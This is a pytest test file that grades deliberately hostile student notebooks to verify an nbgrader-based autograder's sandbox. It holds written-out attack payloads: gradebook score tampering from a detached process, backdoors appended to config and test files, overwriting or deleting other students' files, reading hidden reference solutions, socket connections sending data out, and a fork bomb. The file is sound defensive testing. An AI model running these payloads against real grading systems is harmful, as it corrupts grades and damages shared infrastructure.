"""A hostile student's notebook cannot change a score, harm another student or outlive
its grading: every attack of issue 12, graded for real.

One class of lesson 01 is graded twice, with ``course grade --jobs 2`` and with plain
``nbgrader autograde`` (the course's ``nbgrader_config.py``), each in a scratch course.
Every attacker answers all three functions WRONG (worth 0 of 10 points) and adds an
attack; two honest students answer right. Afterwards the tests check each attacker's
score, that the course's files and the honest students' are byte-identical, that no
process an attack started is alive (each names itself ``course-attack``), and that a
listener on 127.0.0.1 received no connection.
"""
import base64
import hashlib
import html
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from attacks import LINGER, attack_processes
from course import ROOT, lesson_files
from course.nbgrader_run import environment
from course.scratch import scratch_course, submit
from course.submissions import fill, solutions

LESSON = lesson_files.find(["01_forward_propagation"])[0]
SOURCE = nbformat.read(ROOT / "source" / LESSON.name / LESSON.notebook_name, as_version=4)
RELEASE = nbformat.read(ROOT / "release" / LESSON.name / LESSON.notebook_name, as_version=4)
RIGHT = solutions(SOURCE)
WRONG = {
    "dense_forward": "def dense_forward(x, W, b):\n    return x @ W\n",
    "sigmoid": "import numpy as np\ndef sigmoid(z):\n    return 1 / (1 + np.exp(z))\n",
    "mlp_forward": "def mlp_forward(x, weights, biases):\n    return x, [x]\n",
}
HONEST = ("honest_a", "honest_z")  # graded before and after every attacker (names sort so)
REFERENCE = ROOT / "helpers" / "reference" / "forward.py"
CATALOGUE = ROOT / "tests" / "mistakes" / "dense_forward.py"



def a_hidden_test_line():
    """A distinctive hidden-test line of lesson 01 (as a student who got hold of one)."""
    from course.cells import hidden_lines
    return max(hidden_lines(SOURCE), key=len)


def attacks(root, port):
    """student -> {grade_id or "added": source}; "added" is a cell the student added."""
    course = str(root)
    spawn = f"[sys.executable, '-c', {LINGER!r}]"
    return {
        "detached_gradebook": {"added": (
            "import os, sqlite3, time\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        import ctypes\n        ctypes.CDLL(None).prctl(15, b'course-attack', 0, 0, 0)\n"
            "        time.sleep(20)\n"
            f"        db = sqlite3.connect({course + '/gradebook.db'!r})\n"
            "        db.execute('UPDATE grade SET auto_score = 99')\n        db.commit()\n"
            "    os._exit(0)\n")},
        "catalogue_backdoor": {"added": (
            f"with open({str(CATALOGUE)!r}, 'a') as f:\n"
            "    f.write('\\nimport os\\nos.system(\"touch /tmp/course-attack-ran\")\\n')\n")},
        "read_reference": {"dense_forward": (
            "import ctypes, os\n"
            "def _read():\n"
            "    tries = []\n"
            f"    folder = lambda: os.open({str(REFERENCE.parent)!r}, os.O_RDONLY)\n"
            "    tries.append(lambda: os.read(os.open('forward.py', os.O_RDONLY, dir_fd=folder()), 10**6))\n"
            "    libc = ctypes.CDLL(None)\n"
            "    def by_libc():\n"
            f"        fd = libc.open({str(REFERENCE).encode()!r}, 0)\n"
            "        buffer = ctypes.create_string_buffer(10**6)\n"
            "        return buffer.raw[:libc.read(fd, buffer, 10**6)]\n"
            "    tries.append(by_libc)\n"
            f"    tries.append(lambda: (os.link({str(REFERENCE)!r}, '/tmp/link.py'), open('/tmp/link.py', 'rb').read())[1])\n"
            "    for attempt in tries:\n"
            "        try:\n            return attempt().decode()\n"
            "        except Exception:\n            pass\n"
            "def dense_forward(x, W, b):\n"
            "    scope = {}\n    exec(_read() or 'dense_forward = lambda x, W, b: x @ W', scope)\n"
            "    return scope['dense_forward'](x, W, b)\n")},
        "kernel_copy": {
            "added": f"import shutil\nshutil.copy({str(REFERENCE)!r}, '/tmp/ref.py')\n",
            "dense_forward": (
                "import os\ndef dense_forward(x, W, b):\n    scope = {}\n"
                "    if os.path.exists('/tmp/ref.py'):\n        exec(open('/tmp/ref.py').read(), scope)\n"
                "        return scope['dense_forward'](x, W, b)\n    return x @ W\n")},
        "tamper": {"added": (
            "import glob, os, pathlib\n"
            f"root = pathlib.Path({course!r})\n"
            "for path in glob.glob(str(root / 'submitted' / 'honest_*' / '*' / '*.ipynb')):\n"
            "    pathlib.Path(path).write_text('{}')\n"
            "for path in glob.glob(str(root / 'autograded' / '*' / '*' / '*.ipynb')):\n"
            "    pathlib.Path(path).write_text('{}')\n"
            "for path in glob.glob(str(root / 'source' / '*' / '*.ipynb')):\n"
            "    os.remove(path)\n"
            "with open(root / 'nbgrader_config.py', 'a') as config:\n"
            "    config.write('\\nimport os; os.system(\"touch /tmp/course-attack-ran\")\\n')\n")},
        "print_solutions": {"added": (
            "import base64, glob\n"
            f"for path in glob.glob({str(ROOT / 'helpers' / 'reference' / '*.py')!r}):\n"
            "    print(open(path).read())\n"
            f"for path in [{str(REFERENCE)!r}, {course + '/source/' + LESSON.name + '/' + LESSON.notebook_name!r},\n"
            f"             {course + '/submitted/honest_a/' + LESSON.name + '/' + LESSON.notebook_name!r},\n"
            f"             {course + '/gradebook.db'!r}]:\n"
            "    try:\n"
            "        print('read', base64.b64encode(open(path, 'rb').read()))\n"
            "    except OSError as error:\n"
            "        print('refused', error.strerror)\n")},
        "processes_and_network": {
            "added": (
                "import os, socket, subprocess, sys\n"
                f"subprocess.Popen({spawn}, start_new_session=True)\n"
                f"os.system(' '.join([sys.executable, '-c', repr({LINGER!r}), '&']))\n"
                f"socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'kernel')\n"),
            "dense_forward": (
                "import ctypes, socket, sys, time\n"
                "if ctypes.CDLL(None).fork() == 0:\n"
                "    ctypes.CDLL(None).prctl(15, b'course-attack', 0, 0, 0)\n    time.sleep(600)\n"
                "def dense_forward(x, W, b):\n"
                "    try:\n"
                f"        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'answer')\n"
                "    except OSError:\n        pass\n"
                "    return x @ W\n")},
        "pipe_stall": {"dense_forward": (
            "import os, stat, struct, time\n"
            "def dense_forward(x, W, b):\n"
            "    for fd in range(3, 64):\n"
            "        try:\n"
            "            if stat.S_ISSOCK(os.fstat(fd).st_mode):\n"
            "                os.write(fd, struct.pack('!i', 100_000_000) + b'{')\n"
            "        except OSError:\n            pass\n"
            "    time.sleep(600)\n")},
        "later_lesson": {"sigmoid": (
            "import numpy as np\n"
            "def sigmoid(z):\n"
            "    from helpers.reference import softmax\n"
            "    z = np.asarray(z, dtype=float)\n"
            "    return softmax(np.stack([np.zeros_like(z), z], axis=-1))[..., 1]\n")},
        "prints_hidden": {"added": (
            "import base64\n"
            f"print(base64.b64decode({base64.b64encode(a_hidden_test_line().encode()).decode()!r}).decode())\n")},
        "kernel_folders": {"added": (
            "import os\n"
            "for folder in ('/kernels', '/', '/usr', '/course/helpers'):\n"
            "    try:\n"
            "        open(os.path.join(folder, 'junk'), 'w').write('x' * 10**6)\n"
            "        print('wrote', folder)\n"
            "    except OSError as error:\n"
            "        print('refused', folder)\n"
            "    try:\n"
            "        os.chmod(folder, 0)\n        print('chmod', folder)\n"
            "    except OSError:\n        pass\n")},
        "own_timeout": {"added": "import time\ntime.sleep(40)\nprint('slept through')\n"},
        "fork_bomb": {"added": (
            "import ctypes, os, time\n"
            "for _ in range(100_000):\n"
            "    if os.fork() == 0:\n"
            "        ctypes.CDLL(None).prctl(15, b'course-attack', 0, 0, 0)\n"
            "        time.sleep(600)\n")},
    }


def notebook(answers):
    """The release notebook with ``answers``; an "added" cell goes after the imports."""
    nb = fill(RELEASE, {**WRONG, **{k: v for k, v in answers.items() if k != "added"}})
    if "added" in answers:
        cell = nbformat.v4.new_code_cell(answers["added"])
        if "time.sleep(40)" in answers["added"]:
            cell.metadata["course"] = {"timeout": 0}  # the student's own "no limit"
        nb.cells.insert(1, cell)
    return nb


def fingerprint(paths):
    """sha256 of every file under ``paths`` (a tampered or deleted file changes it)."""
    found = {}
    for top in paths:
        for path in sorted([top] if top.is_file() else top.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


class Listener:
    """A TCP server on 127.0.0.1 that records what connects to it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(100))
            connection.close()


@pytest.fixture(scope="module", params=["course grade", "nbgrader autograde"])
def graded(request, tmp_path_factory):
    root = scratch_course(tmp_path_factory.mktemp("course"), LESSON)
    listener = Listener()
    students = {name: notebook(RIGHT) for name in HONEST}
    students.update({name: notebook(a) for name, a in attacks(root, listener.port).items()})
    for student, nb in students.items():
        submit(root, LESSON, student, nb)
    protected = [root / "source", root / "nbgrader_config.py", root / "submitted",
                 ROOT / "helpers", ROOT / "tests" / "mistakes", ROOT / "nbgrader_config.py", ROOT / "source"]
    before = fingerprint(protected)
    if request.param == "course grade":
        command = [sys.executable, "-m", "course", "grade", LESSON.name, "--jobs", "2", "--course-dir", str(root)]
    else:
        command = [sys.executable, "-m", "nbgrader", "autograde", LESSON.name, "--force",
                   f"--CourseDirectory.root={root}"]
    # a hang would fail here rather than block the suite
    done = subprocess.run(command, cwd=root, env=environment(), capture_output=True, text=True, timeout=1200)
    deadline = time.monotonic() + 20  # SIGKILLed processes vanish within moments
    while attack_processes() and time.monotonic() < deadline:
        time.sleep(0.1)
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        scores = {}
        for student in students:
            nb = gradebook.find_submission_notebook(LESSON.name, LESSON.name, student)
            scores[student] = sum(g.score for g in nb.grades)
    return {"root": root, "done": done, "scores": scores, "before": before, "after": fingerprint(protected),
            "processes": attack_processes(), "listener": listener}


def autograded_outputs(root, student):
    nb = nbformat.read(root / "autograded" / student / LESSON.name / LESSON.notebook_name, as_version=4)
    return "\n".join(o.get("text", "") + o.get("ename", "") + ": " + o.get("evalue", "")
                     for c in nb.cells for o in c.get("outputs", []))


@pytest.mark.parametrize("student", ["detached_gradebook", "catalogue_backdoor", "read_reference",
                                     "kernel_copy", "tamper", "print_solutions", "processes_and_network",
                                     "pipe_stall", "later_lesson", "own_timeout", "fork_bomb",
                                     "prints_hidden", "kernel_folders"])
def test_an_attack_earns_nothing(graded, student):
    assert graded["scores"][student] == 0, graded["done"].stderr[-2000:]


def test_honest_students_get_full_marks_and_their_files_are_untouched(graded):
    assert [graded["scores"][s] for s in HONEST] == [10, 10]
    changed = sorted(p for p in graded["before"].keys() | graded["after"].keys()
                     if graded["before"].get(p) != graded["after"].get(p))
    assert changed == []  # submitted/, source/, config, the repository's helpers and catalogue
    assert not Path("/tmp/course-attack-ran").exists()
    for student in HONEST:
        assert "course-attack" not in autograded_outputs(graded["root"], student)


def test_no_process_an_attack_started_is_alive(graded):
    assert graded["processes"] == []


def test_no_connection_left_the_sandbox(graded):
    assert graded["listener"].received == []
    assert "Network is unreachable" in autograded_outputs(graded["root"], "processes_and_network") \
        or "Connection refused" in autograded_outputs(graded["root"], "processes_and_network")


def test_printed_solutions_show_only_errors(graded):
    printed = autograded_outputs(graded["root"], "print_solutions")
    # the reference, the source notebook, another student's submission, the gradebook
    assert printed.count("refused No such file or directory") == 4 and "read b'" not in printed, printed
    assert "def dense_forward" not in printed


def test_a_stalled_message_costs_only_its_function(graded):
    text = autograded_outputs(graded["root"], "pipe_stall")
    assert "did not finish within its time: it sat waiting for 10 s without using the CPU" in text


def test_a_later_lessons_reference_is_refused(graded):
    assert "helpers.reference.softmax is not available" in autograded_outputs(graded["root"], "later_lesson")


def test_a_kernel_writes_nowhere_but_its_own_tmpfs(graded):
    text = autograded_outputs(graded["root"], "kernel_folders")
    if os.geteuid() != 0:  # a user's sandbox owns /kernels (README: grade as root for this)
        text = text.replace("wrote /kernels", "refused /kernels")
    assert text.count("refused") == 4 and "wrote" not in text, text


def test_a_fork_bomb_stops_at_the_sandboxs_process_limit(graded):
    assert "Resource temporarily unavailable" in autograded_outputs(graded["root"], "fork_bomb")


def test_a_cells_time_limit_is_the_instructors(graded):
    text = autograded_outputs(graded["root"], "own_timeout")
    assert "slept through" not in text and "CellTimeoutError" in text


def test_feedback_withholds_only_the_page_that_shows_a_hidden_test(graded):
    root = graded["root"]
    done = subprocess.run([sys.executable, "-m", "course", "feedback", LESSON.name, "--course-dir", str(root)],
                          cwd=ROOT, env=environment(), capture_output=True, text=True, timeout=1200)
    assert done.returncode != 0 and len(done.stderr.strip().splitlines()) == 1, done.stderr
    withheld = (root / "feedback" / f"withheld-{LESSON.name}.txt").read_text()
    assert "prints_hidden" in withheld and "print_solutions" not in withheld
    pages = {p.parts[-3] for p in (root / "feedback").glob(f"*/{LESSON.name}/{LESSON.name}.html")}
    assert pages == set(graded["scores"]) - {"prints_hidden"}  # the students after it too
    page = html.unescape((root / "feedback" / "print_solutions" / LESSON.name / f"{LESSON.name}.html").read_text())
    shipped = {line.strip() for cell in RELEASE.cells for line in cell.source.splitlines()}
    reference_only = {line.strip() for line in REFERENCE.read_text().splitlines()
                      if len(line.strip()) >= 30} - shipped
    assert reference_only and not [line for line in reference_only if line in page]
